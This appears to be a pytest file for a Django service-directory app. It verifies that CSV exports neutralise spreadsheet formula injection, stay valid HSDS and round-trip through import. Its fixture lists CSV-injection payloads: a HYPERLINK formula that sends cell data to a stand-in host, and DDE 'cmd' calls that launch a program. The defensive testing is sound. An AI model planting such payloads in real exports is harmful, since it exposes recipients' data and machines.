"""The export's CSV files never hand a spreadsheet a formula to run (CSV injection), stay
valid HSDS, and our import gives back the original text."""

import csv
import io
import json
import re
import zipfile
from decimal import Decimal
from io import StringIO

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.urls import reverse

from directory.models import Organization, Service
from hsds.models import ImportedRecord
from hsds.schema import DATAPACKAGE_PATH
from tests.factories import make_location, make_organization, make_service

pytestmark = pytest.mark.django_db

# (what a curator typed, what the CSV cell holds)
CELLS = [
    ('=HYPERLINK("https://evil.example/?d="&A1,"Details")', '\'=HYPERLINK("https://evil.example/?d="&A1,"Details")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\tTabbed in", "'\tTabbed in"),
    ("\rCarried back", "'\rCarried back"),
    # Already quoted: one more quote, so that the import can take exactly one off.
    ("'=SUM(A1:A9)", "''=SUM(A1:A9)"),
    # A name is text, whatever it looks like.
    ("-2", "'-2"),
    # Neither a formula nor anything our import would change.
    ("'Tis the season", "'Tis the season"),
]  # fmt: skip
FORMULA_START = re.compile(r"[=+\-@\t\r]")
NUMBER_COLUMNS = {
    (resource["path"], field["name"])
    for resource in json.loads(DATAPACKAGE_PATH.read_text(encoding="utf-8"))["resources"]
    for field in resource["schema"]["fields"]
    if field["type"] == "number"
}


def make_formula_directory():
    for i, (typed, _) in enumerate(CELLS):
        organization = make_organization(f"{typed} organization {i}")
        service = make_service(
            typed,
            organization=organization,
            description=f"{typed} described",
            categories=["emergency-shelter"],
        )
        make_location(
            organization,
            services=[service],
            name=f"Site {i}",
            latitude=Decimal("41.9"),
            longitude=Decimal("-87.6"),
        )


def read_csv(folder, name):
    with (folder / name).open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def export(folder):
    call_command("export_hsds", str(folder), stdout=StringIO())
    return folder


def assert_no_formula_cells(files):
    """No text cell of any CSV starts a formula; number cells are numbers ("-87.6")."""
    for name, text in files.items():
        if not name.endswith(".csv"):
            continue
        for row in csv.DictReader(io.StringIO(text, newline="")):
            for column, cell in row.items():
                if (name, column) in NUMBER_COLUMNS:
                    assert cell == "" or Decimal(cell).is_finite(), (name, column, cell)
                else:
                    assert not FORMULA_START.match(cell), (name, column, cell)


def assert_the_originals_are_back():
    names = set(Service.objects.values_list("name", flat=True))
    assert names == {typed for typed, _ in CELLS}
    for service in Service.objects.select_related("organization"):
        assert service.description == f"{service.name} described"
        assert service.organization.name.startswith(f"{service.name} organization ")
        assert service.locations.get().longitude == Decimal("-87.6")


def wipe_directory():
    Service.objects.all().delete()
    Organization.objects.all().delete()
    ImportedRecord.objects.all().delete()


def test_text_cells_that_start_a_formula_are_quoted(tmp_path):
    make_formula_directory()
    folder = export(tmp_path)
    services = {row["name"] for row in read_csv(folder, "services.csv")}
    assert services == {cell for _, cell in CELLS}
    descriptions = {row["description"] for row in read_csv(folder, "services.csv")}
    assert f"'{CELLS[0][0]} described" in descriptions
    assert "'-2 described" in descriptions
    organizations = {row["name"] for row in read_csv(folder, "organizations.csv")}
    assert "'+cmd|' /C calc'!A0 organization 1" in organizations
    assert "'Tis the season organization 8" in organizations
    # Numbers stay numbers: a negative coordinate is not a formula.
    assert {row["longitude"] for row in read_csv(folder, "locations.csv")} == {"-87.6"}
    assert_no_formula_cells({p.name: p.read_text(encoding="utf-8") for p in folder.iterdir()})
    # services.json is no spreadsheet's: it keeps the text exactly.
    records = json.loads((folder / "services.json").read_text(encoding="utf-8"))
    assert {r["name"] for r in records} == {typed for typed, _ in CELLS}


def test_the_quoted_export_is_still_valid_hsds(tmp_path):
    from frictionless import Package

    make_formula_directory()
    export(tmp_path)
    official = json.loads(DATAPACKAGE_PATH.read_text(encoding="utf-8"))
    report = Package(official, basepath=str(tmp_path)).validate()
    errors = [f"{t.name}: {e.message}" for t in report.tasks for e in t.errors]
    assert report.valid, errors


def test_importing_the_export_gives_back_the_original_text(tmp_path):
    make_formula_directory()
    first = export(tmp_path / "first")
    wipe_directory()
    call_command("import_hsds", str(first), stdout=StringIO(), verbosity=0)
    assert_the_originals_are_back()
    second = export(tmp_path / "second")
    for path in first.iterdir():
        assert path.read_bytes() == (second / path.name).read_bytes(), path.name


def test_the_admin_download_is_quoted_and_imports_back(client, tmp_path):
    make_formula_directory()
    client.force_login(User.objects.create_superuser("root", password="x" * 16))
    response = client.get(reverse("admin:hsds_importrun_export"))
    download = tmp_path / "export.zip"
    download.write_bytes(b"".join(response.streaming_content))
    with zipfile.ZipFile(download) as archive:
        files = {
            name.removeprefix("hsds/"): archive.read(name).decode("utf-8")
            for name in archive.namelist()
        }
    assert "'-2+3" in files["services.csv"]
    assert_no_formula_cells(files)
    wipe_directory()
    call_command("import_hsds", str(download), stdout=StringIO(), verbosity=0)
    assert_the_originals_are_back()
